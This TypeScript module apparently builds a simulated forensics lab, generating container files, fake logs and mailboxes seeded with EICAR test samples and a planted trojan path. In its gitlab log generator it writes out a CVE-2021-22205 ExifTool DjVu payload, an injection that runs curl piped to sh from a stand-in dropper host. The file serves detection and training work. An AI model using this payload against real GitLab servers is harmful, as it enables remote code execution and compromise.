/**
 * What the lab's image and containers hold, as pure data: file trees (as tar entries), log
 * lines and mail. Nothing here touches the host, so every byte is unit-testable.
 */
import type { TarEntry } from "./tar.js";

/**
 * The EICAR test file, byte-exact (68 bytes). Kept split in the source so that an antivirus
 * scan of this repository does not flag the source file itself; only the lab's mail spool
 * carries the joined string.
 */
export const EICAR: string = [
  "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
  "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
].join("");

/** The second lab signature; the scanner work ships a ClamAV `.ndb` rule for it. Split for the same reason. */
export const LAB_SIGNATURE_TEXT: string = ["BREACHKIT-LAB-SIGNATURE", "7f3a9c1e"].join("-");

export const LAB_LABEL = "breachkit.lab";
export const LAB_CONTAINER_NAMES = {
  gitlab: "bk-lab-gitlab",
  wordpress: "bk-lab-wordpress",
  mail: "bk-lab-mail",
} as const;
export type LabRole = keyof typeof LAB_CONTAINER_NAMES;

/** Paths inside the containers, exported so tests and scanners know where to look. */
export const LAB_PATHS = {
  trojanInContainer: "/tmp/wate",
  aliceMbox: "/var/mail/alice",
  bobMaildirNew: "/home/bob/Maildir/new",
  labSignature: "/srv/files/lab-signature.bin",
} as const;

const enc = (s: string): Uint8Array => Buffer.from(s, "utf8");

const PASSWD = `root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
git:x:998:998:GitLab:/var/opt/gitlab:/bin/sh
alice:x:1000:1000:Alice:/home/alice:/bin/sh
bob:x:1001:1001:Bob:/home/bob:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
`;

const GROUP = `root:x:0:
daemon:x:1:
mail:x:8:alice,bob
www-data:x:33:
git:x:998:
alice:x:1000:
bob:x:1001:
nogroup:x:65534:
`;

/**
 * The image's root filesystem: busybox plus one symlink per applet.
 * `appletPaths` is `busybox --list-full` output (e.g. `usr/sbin/httpd`). It lists busybox
 * itself: linking that name would replace the binary with a link to itself, so it is skipped.
 */
export function rootfsEntries(busybox: Uint8Array, appletPaths: readonly string[]): TarEntry[] {
  const dirs: [string, number][] = [
    ["bin", 0o755],
    ["sbin", 0o755],
    ["usr", 0o755],
    ["usr/bin", 0o755],
    ["usr/sbin", 0o755],
    ["etc", 0o755],
    ["dev", 0o755],
    ["proc", 0o555],
    ["sys", 0o555],
    ["run", 0o755],
    ["tmp", 0o1777],
    ["root", 0o700],
    ["home", 0o755],
    ["srv", 0o755],
    ["var", 0o755],
    ["var/log", 0o755],
    ["var/tmp", 0o1777],
    ["var/www", 0o755],
  ];
  const entries: TarEntry[] = dirs.map(([path, mode]) => ({ type: "dir", path, mode }));
  entries.push({ type: "file", path: "bin/busybox", mode: 0o755, data: busybox });
  const seen = new Set<string>(["bin/busybox"]);
  const dirSet = new Set(dirs.map(([d]) => d));
  for (const raw of appletPaths) {
    const path = raw.trim().replace(/^\/+/, "");
    // Only plain applet paths under the known bin directories; anything odd is ignored.
    if (!/^(usr\/)?s?bin\/[A-Za-z0-9_.[-]+$/.test(path)) continue;
    const dir = path.slice(0, path.lastIndexOf("/"));
    if (seen.has(path) || !dirSet.has(dir) || path.endsWith("/busybox")) continue;
    seen.add(path);
    entries.push({ type: "symlink", path, target: "/bin/busybox" });
  }
  entries.push({ type: "file", path: "etc/passwd", mode: 0o644, data: enc(PASSWD) });
  entries.push({ type: "file", path: "etc/group", mode: 0o644, data: enc(GROUP) });
  entries.push({
    type: "file",
    path: "etc/os-release",
    mode: 0o644,
    data: enc('NAME="breachkit lab"\nID=breachkit-lab\nPRETTY_NAME="breachkit lab (busybox)"\n'),
  });
  return entries;
}

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const two = (n: number): string => String(n).padStart(2, "0");

/** nginx `$time_local` in UTC, e.g. `25/Nov/2025:02:41:13 +0000`. */
export function nginxTime(d: Date): string {
  return `${two(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
}

/** RFC 5322 date, e.g. `Tue, 25 Nov 2025 02:41:13 +0000`. */
export function mailDate(d: Date): string {
  const days = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];
  return `${days[d.getUTCDay()]}, ${d.getUTCDate()} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
}

/** mbox `From ` line date (asctime), e.g. `Tue Nov 25 02:41:13 2025`. */
function asctime(d: Date): string {
  const days = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];
  return `${days[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} ${d.getUTCFullYear()}`;
}

const ago = (now: Date, seconds: number): Date => new Date(now.getTime() - seconds * 1000);

const BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const ATTACKER_IP = "203.0.113.77";
const DROPPER_HOST = "198.51.100.66";

/**
 * The gitlab container's log: omnibus-style tails of the nginx access log and the workhorse
 * log. Among normal traffic sits the CVE-2021-22205 exploit: an unauthenticated image upload to
 * `/uploads/user` whose "JPEG" is a DjVu file; workhorse hands it to ExifTool to strip metadata
 * and ExifTool's DjVu parser evaluates the `qx{...}` in its annotation (curl | sh of the dropper).
 */
export function gitlabLogLines(now: Date): string[] {
  const a = (s: number) => nginxTime(ago(now, s));
  const iso = (s: number) => ago(now, s).toISOString();
  const payload = String.raw`(metadata (Copyright "\" . qx{curl -fsSL http://${DROPPER_HOST}/wate.sh | sh} . \" b ") )`;
  return [
    "==> /var/log/gitlab/nginx/gitlab_access.log <==",
    `198.51.100.23 - - [${a(1800)}] "GET /users/sign_in HTTP/1.1" 200 8733 "-" "${BROWSER}" -`,
    `198.51.100.23 - - [${a(1790)}] "GET /dashboard/projects HTTP/1.1" 200 21944 "https://gitlab.example.com/users/sign_in" "${BROWSER}" -`,
    `198.51.100.41 - - [${a(1500)}] "GET /api/v4/projects?per_page=100 HTTP/1.1" 200 4096 "-" "gitlab-runner 14.3.2 (14-3-stable; go1.13.8; linux/amd64)" -`,
    `${ATTACKER_IP} - - [${a(620)}] "GET /users/sign_in HTTP/1.1" 200 8717 "-" "python-requests/2.26.0" -`,
    `${ATTACKER_IP} - - [${a(619)}] "POST /uploads/user HTTP/1.1" 422 41 "-" "python-requests/2.26.0" -`,
    `198.51.100.23 - - [${a(300)}] "GET /group/app/-/merge_requests HTTP/1.1" 200 15320 "-" "${BROWSER}" -`,
    "",
    "==> /var/log/gitlab/gitlab-workhorse/current <==",
    `{"correlation_id":"01FKQ3VZ8Y6X2C9D4E5F6G7H8J","filename":"l.jpg","level":"info","msg":"running exiftool to remove any metadata","time":"${iso(619)}"}`,
    `{"command":["exiftool","-all=","--IPTC:all","--XMP-iptcExt:all","-tagsFromFile","@","-ResolutionUnit","-XResolution","-YResolution","-YCbCrSubSampling","-YCbCrPositioning","-BitsPerSample","-ImageHeight","-ImageWidth","-ImageSize","-Copyright","-CopyrightNotice","-Orientation","-"],"correlation_id":"01FKQ3VZ8Y6X2C9D4E5F6G7H8J","error":"exit status 1","level":"info","msg":"exiftool command failed","stderr":"Warning: Bad DjVu annotation ${JSON.stringify(payload).slice(1, -1)}\\nError: Writing of this type of file is not supported - -\\n","time":"${iso(619)}"}`,
    `{"content_type":"multipart/form-data; boundary=----WebKitFormBoundaryIMv3mxRg59TkFSX5","correlation_id":"01FKQ3VZ8Y6X2C9D4E5F6G7H8J","duration_ms":412,"host":"gitlab.example.com","level":"info","method":"POST","msg":"access","proto":"HTTP/1.1","referrer":"","remote_addr":"${ATTACKER_IP}:53142","remote_ip":"${ATTACKER_IP}","route":"^/uploads/","status":422,"system":"http","time":"${iso(619)}","uri":"/uploads/user","user_agent":"python-requests/2.26.0","written_bytes":41}`,
    "",
    "==> /var/log/gitlab/gitlab-rails/exiftool.log <==",
    `${iso(618)} sh -c curl -fsSL http://${DROPPER_HOST}/wate.sh | sh`,
  ];
}

/** The wordpress container's log: ordinary visitors, nothing suspicious. */
export function wordpressLogLines(now: Date): string[] {
  const a = (s: number) => nginxTime(ago(now, s));
  const chrome =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";
  return [
    `198.51.100.14 - - [${a(2400)}] "GET / HTTP/1.1" 200 5120 "-" "${chrome}"`,
    `198.51.100.14 - - [${a(2399)}] "GET /wp-content/themes/twentytwentyfour/style.css?ver=1.1 HTTP/1.1" 200 1830 "https://blog.example.org/" "${chrome}"`,
    `198.51.100.14 - - [${a(2399)}] "GET /wp-includes/js/jquery/jquery.min.js?ver=3.7.1 HTTP/1.1" 200 30540 "https://blog.example.org/" "${chrome}"`,
    `203.0.113.21 - - [${a(1900)}] "GET /2025/10/spring-cleaning-the-garden/ HTTP/1.1" 200 8412 "https://www.example.com/" "${BROWSER}"`,
    `203.0.113.21 - - [${a(1899)}] "GET /favicon.ico HTTP/1.1" 200 1150 "-" "${BROWSER}"`,
    `198.51.100.88 - - [${a(900)}] "GET /feed/ HTTP/1.1" 200 3921 "-" "Feedly/1.0 (+https://feedly.com/poller.html; 12 subscribers)"`,
    `203.0.113.5 - - [${a(120)}] "GET /about/ HTTP/1.1" 200 4480 "https://blog.example.org/" "${chrome}"`,
  ];
}

const WORDPRESS_INDEX = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>A small garden blog</title></head>
<body><h1>A small garden blog</h1><p>Notes on tomatoes, compost and patience.</p></body></html>
`;

/** Wraps base64 at 76 columns, as MIME requires. */
function base64Lines(data: string): string {
  return (
    Buffer.from(data, "latin1")
      .toString("base64")
      .match(/.{1,76}/g)
      ?.join("\n") ?? ""
  );
}

/** Alice's mbox: three messages, the second carrying EICAR as a base64 attachment. */
export function aliceMbox(now: Date): string {
  const d1 = ago(now, 86_400 * 2);
  const d2 = ago(now, 86_400);
  const d3 = ago(now, 3_600);
  const boundary = "=_bk_lab_3f1c2a";
  return [
    `From bob@example.com ${asctime(d1)}`,
    "Return-Path: <bob@example.com>",
    "From: Bob <bob@example.com>",
    "To: Alice <alice@example.com>",
    "Subject: Lunch on Friday?",
    `Date: ${mailDate(d1)}`,
    "Message-ID: <lab-1@example.com>",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Hi Alice, the usual place at noon? Bob",
    "",
    `From billing@invoices.example.net ${asctime(d2)}`,
    "Return-Path: <billing@invoices.example.net>",
    "From: Billing <billing@invoices.example.net>",
    "To: Alice <alice@example.com>",
    "Subject: Overdue invoice 2025-118",
    `Date: ${mailDate(d2)}`,
    "Message-ID: <lab-2@invoices.example.net>",
    "MIME-Version: 1.0",
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    "",
    `--${boundary}`,
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Please find the invoice attached.",
    "",
    `--${boundary}`,
    'Content-Type: application/octet-stream; name="invoice.com"',
    "Content-Transfer-Encoding: base64",
    'Content-Disposition: attachment; filename="invoice.com"',
    "",
    base64Lines(EICAR),
    "",
    `--${boundary}--`,
    "",
    `From news@garden.example.org ${asctime(d3)}`,
    "Return-Path: <news@garden.example.org>",
    "From: Garden News <news@garden.example.org>",
    "To: alice@example.com",
    "Subject: November newsletter",
    `Date: ${mailDate(d3)}`,
    "Message-ID: <lab-3@garden.example.org>",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Time to mulch the beds before the frost.",
    "",
  ].join("\n");
}

/** Bob's Maildir/new: two messages, the second with the raw EICAR string as its body. */
export function bobMaildir(now: Date): { name: string; text: string }[] {
  const t1 = ago(now, 7_200);
  const t2 = ago(now, 600);
  const msg = (d: Date, from: string, subject: string, id: string, body: string) =>
    [
      `From: ${from}`,
      "To: Bob <bob@example.com>",
      `Subject: ${subject}`,
      `Date: ${mailDate(d)}`,
      `Message-ID: <${id}>`,
      "Content-Type: text/plain; charset=us-ascii",
      "",
      body,
      "",
    ].join("\n");
  return [
    {
      name: `${Math.floor(t1.getTime() / 1000)}.M101P11.mail`,
      text: msg(
        t1,
        "Alice <alice@example.com>",
        "Re: Lunch on Friday?",
        "lab-4@example.com",
        "Noon works.",
      ),
    },
    {
      name: `${Math.floor(t2.getTime() / 1000)}.M102P11.mail`,
      text: msg(t2, "scanner-test@example.net", "AV test", "lab-5@example.net", EICAR),
    },
  ];
}

const runScript = (body: string): Uint8Array => enc(`#!/bin/sh\n${body}`);

/**
 * Files copied into one container's writable layer before it starts (never part of the
 * shared image, so one container's contents cannot show up in another's filesystem).
 */
export function containerFiles(
  role: LabRole,
  now: Date,
  extra: { wate?: Uint8Array; trojanSeconds?: number } = {},
): TarEntry[] {
  const lab: TarEntry = { type: "dir", path: "lab", mode: 0o755 };
  switch (role) {
    case "gitlab": {
      if (!extra.wate) throw new Error("the gitlab container needs the wate binary");
      const seconds = Math.max(1, Math.min(900, Math.floor(extra.trojanSeconds ?? 900)));
      return [
        lab,
        {
          type: "file",
          path: "lab/access.log",
          mode: 0o644,
          data: enc(`${gitlabLogLines(now).join("\n")}\n`),
        },
        {
          type: "file",
          path: "lab/run.sh",
          mode: 0o755,
          // The trojan's stdio goes nowhere: it must not hold the container's log pipe.
          data: runScript(
            `cat /lab/access.log\n/tmp/wate ${seconds} </dev/null >/dev/null 2>&1 &\nwhile :; do sleep 3600; done\n`,
          ),
        },
        { type: "file", path: "tmp/wate", mode: 0o755, data: extra.wate },
      ];
    }
    case "wordpress":
      return [
        lab,
        {
          type: "file",
          path: "lab/access.log",
          mode: 0o644,
          data: enc(`${wordpressLogLines(now).join("\n")}\n`),
        },
        {
          type: "file",
          path: "lab/run.sh",
          mode: 0o755,
          data: runScript("cat /lab/access.log\nexec httpd -f -p 127.0.0.1:80 -h /var/www\n"),
        },
        { type: "file", path: "var/www/index.html", mode: 0o644, data: enc(WORDPRESS_INDEX) },
      ];
    case "mail": {
      const maildir = bobMaildir(now);
      return [
        lab,
        {
          type: "file",
          path: "lab/run.sh",
          mode: 0o755,
          data: runScript(
            'echo "postfix/master[1]: daemon started -- version 3.7.11, configuration /etc/postfix"\nwhile :; do sleep 3600; done\n',
          ),
        },
        { type: "dir", path: "var/mail", mode: 0o2775, gid: 8 },
        {
          type: "file",
          path: "var/mail/alice",
          mode: 0o600,
          uid: 1000,
          gid: 8,
          data: enc(aliceMbox(now)),
        },
        { type: "dir", path: "home/bob", mode: 0o750, uid: 1001, gid: 1001 },
        { type: "dir", path: "home/bob/Maildir", mode: 0o700, uid: 1001, gid: 1001 },
        { type: "dir", path: "home/bob/Maildir/cur", mode: 0o700, uid: 1001, gid: 1001 },
        { type: "dir", path: "home/bob/Maildir/new", mode: 0o700, uid: 1001, gid: 1001 },
        { type: "dir", path: "home/bob/Maildir/tmp", mode: 0o700, uid: 1001, gid: 1001 },
        ...maildir.map(
          (m): TarEntry => ({
            type: "file",
            path: `home/bob/Maildir/new/${m.name}`,
            mode: 0o600,
            uid: 1001,
            gid: 1001,
            data: enc(m.text),
          }),
        ),
        { type: "dir", path: "srv/files", mode: 0o755 },
        {
          type: "file",
          path: "srv/files/lab-signature.bin",
          mode: 0o644,
          data: enc(`${LAB_SIGNATURE_TEXT}\n`),
        },
      ];
    }
  }
}
